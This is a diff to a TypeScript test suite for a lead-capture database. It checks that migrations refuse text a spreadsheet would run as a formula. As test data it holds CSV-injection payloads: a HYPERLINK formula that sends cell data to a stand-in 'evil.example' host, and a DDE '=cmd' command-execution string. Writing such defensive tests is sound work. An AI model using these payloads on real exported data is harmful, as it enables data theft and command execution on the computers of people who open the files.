@@ -17,7 +17,9 @@ import { TOUCH_COLUMNS } from "@/lib/attribution/touch-columns";
 import { LEAD_COLUMNS, migrate, RENAMED_MIGRATIONS, type LeadRow } from "@/lib/contact/migrations";
 import { contactRequestSchema } from "@/lib/contact/contact-schema";
 import { MARKETS } from "@/lib/markets/markets";
-import { LeadRejectedError } from "@/lib/contact/leads-store-contract";
+import { LeadRejectedError, toRow } from "@/lib/contact/leads-store-contract";
+import { startsLikeFormula } from "@/lib/leads/lead-text";
+import { sampleLead } from "../support/sample-lead";
 import { readDoc } from "../support/docs";
 import { validContactRequest } from "../support/contact-request";
 import { postgresAvailable, startPostgres } from "../support/postgres-server";
@@ -74,6 +76,34 @@ const sqlstate = (p: Promise<unknown>) =>
     () => "ok",
     (e: { code?: string }) => e.code,
   );
+
+/** What a spreadsheet runs as a formula, by its first character (`=`, `+`, `-`, `@`, or a tab or CR before one). */
+const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
+
+/**
+ * A row with every text column the site writes filled with a value the column takes: the lead as the route stores
+ * it, from a campaign page, with both touches complete (click ids included) and held.
+ */
+function fullRow(): LeadRow {
+  const touch = (n: number) => ({
+    at: `2026-11-0${n}T10:00:00.000Z`,
+    landing_url: `https://pagos.example/mx?utm_source=s${n}`,
+    referrer: "https://www.google.com/",
+    utm_source: `s${n}`,
+    utm_medium: "cpc",
+    utm_campaign: "pagos-usa",
+    utm_term: "pagos internacionales",
+    utm_content: "banner",
+    gclid: "Cj0KCQiA",
+    gbraid: "0AAAAA",
+    wbraid: "CjgKEAiA",
+    fbclid: "IwAR3abc",
+    msclkid: "a1b2c3d4",
+  });
+  return toRow(
+    sampleLead({ page: "importadores-china", held: "no_proof", attribution: { first: touch(1), last: touch(2) } }),
+  );
+}
 
 function checks(name: string, open: () => Promise<Db>) {
   describe(`the contact_submissions migration on ${name}`, () => {
@@ -138,6 +168,47 @@ function checks(name: string, open: () => Promise<Db>) {
       }
     });
 
+    it("stores no text a spreadsheet would run as a formula, in any text column, whatever the role writing it", async () => {
+      const { rows } = await db.query(
+        "select column_name from information_schema.columns where table_schema = 'public' and table_name = 'contact_submissions' and data_type = 'text' order by ordinal_position",
+      );
+      const textColumns = rows.map((r) => r.column_name as string);
+      // The function's own column, beside every column the site writes.
+      const values: Record<string, unknown> = { ...fullRow(), conversion_withheld_reason: "held" };
+      expect(textColumns.filter((column) => typeof values[column] !== "string")).toEqual([]);
+      await db.exec("begin");
+      try {
+        expect(await sqlstate(db.query(...insert(values as LeadRow)))).toBe("ok");
+      } finally {
+        await db.exec("rollback");
+      }
+      const stored: string[] = [];
+      for (const column of textColumns) {
+        for (const start of FORMULA_STARTS) {
+          const row = { ...values, id: randomUUID(), [column]: `${start}${values[column] as string}` };
+          await db.exec("begin");
+          try {
+            if ((await sqlstate(db.query(...insert(row as LeadRow)))) !== "23514") stored.push(`${column}: ${start}`);
+          } finally {
+            await db.exec("rollback");
+          }
+        }
+      }
+      expect(stored).toEqual([]);
+    });
+
+    it("names the field of every CHECK the site's insert can break, so the route's 422 says which", async () => {
+      const { rows } = await db.query(
+        "select conname from pg_constraint where conrelid = 'public.contact_submissions'::regclass and contype = 'c'",
+      );
+      const guarded = rows
+        .map((r) => r.conname as string)
+        .filter((name) => !name.startsWith("contact_submissions_conversion_withheld_reason"));
+      expect(guarded.length).toBeGreaterThan(30);
+      for (const constraint of guarded)
+        expect(new LeadRejectedError(`violates check constraint "${constraint}"`).field, constraint).not.toBe("body");
+    });
+
     it("refuses lead text a spreadsheet would run or a plain-text alert would misread, as the route does", async () => {
       for (const bad of [
         { company: '=HYPERLINK("https://evil.example/?d="&C2,"Ver ficha")' },
@@ -181,6 +252,22 @@ function checks(name: string, open: () => Promise<Db>) {
           expect(await sqlstate(asAnon(db, ...insert(row))), JSON.stringify(value)).toBe("ok");
         }),
         { numRuns: 2_000 },
+      );
+    });
+
+    it("stores every email the route takes; one starting like a formula is refused on both sides (500 generated)", async () => {
+      await fc.assert(
+        fc.asyncProperty(fc.constantFrom("", "'", ...FORMULA_STARTS), fc.emailAddress(), async (start, address) => {
+          const email = `${start}${address}`;
+          const parsed = contactRequestSchema.safeParse({ ...validContactRequest(), email });
+          if (parsed.success)
+            expect(await sqlstate(asAnon(db, ...insert(lead({ email: parsed.data.email })))), email).toBe("ok");
+          if (startsLikeFormula(email)) {
+            expect(parsed.success, email).toBe(false);
+            expect(await sqlstate(asAnon(db, ...insert(lead({ email })))), email).toBe("23514");
+          }
+        }),
+        { numRuns: 500 },
       );
     });
 
@@ -267,6 +354,7 @@ function checks(name: string, open: () => Promise<Db>) {
     it("accepts whatever the route's cleaning keeps (2,000 generated values)", async () => {
       const text = fc.string({
         unit: fc.oneof(
+          fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'"),
           fc.constant("\u202e"),
           fc.constant("\u2028"),
           fc.constant("\u200b"),
@@ -546,6 +634,31 @@ describe("upgrading a table that already holds leads", () => {
       close: () => db.close(),
     };
     expect(await sqlstate(asAnon(anon, ...insert(previousSite)))).toBe("ok");
+    await db.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+});
+
+describe("upgrading to the rule on text a spreadsheet may read", () => {
+  it("keeps rows stored before it with their text, and refuses such text in every row from then on", async () => {
+    const rule = "20261127180626_lead_formula_text.sql";
+    const files = migrationFiles();
+    const dir = mkdtempSync(join(tmpdir(), "migrations-"));
+    for (const file of files.filter((f) => f < rule)) copyFileSync(join("supabase/migrations", file), join(dir, file));
+    const db = await emptyDatabase();
+    await migrate(db, dir);
+    const before = lead({
+      email: "=cmd|'/Ccalc'!A0@victim.example",
+      first_utm_source: '=HYPERLINK("https://evil.example")',
+    });
+    await db.query(...insert(before));
+    for (const file of files.filter((f) => f >= rule)) copyFileSync(join("supabase/migrations", file), join(dir, file));
+    expect(await migrate(db, dir)).toEqual(files.filter((f) => f >= rule));
+    const { rows } = await db.query("select email, first_utm_source from contact_submissions where id = $1", [
+      before.id,
+    ]);
+    expect(rows).toEqual([{ email: before.email, first_utm_source: before.first_utm_source }]);
+    expect(await sqlstate(db.query(...insert({ ...before, id: randomUUID() })))).toBe("23514");
     await db.close();
     rmSync(dir, { recursive: true, force: true });
   });
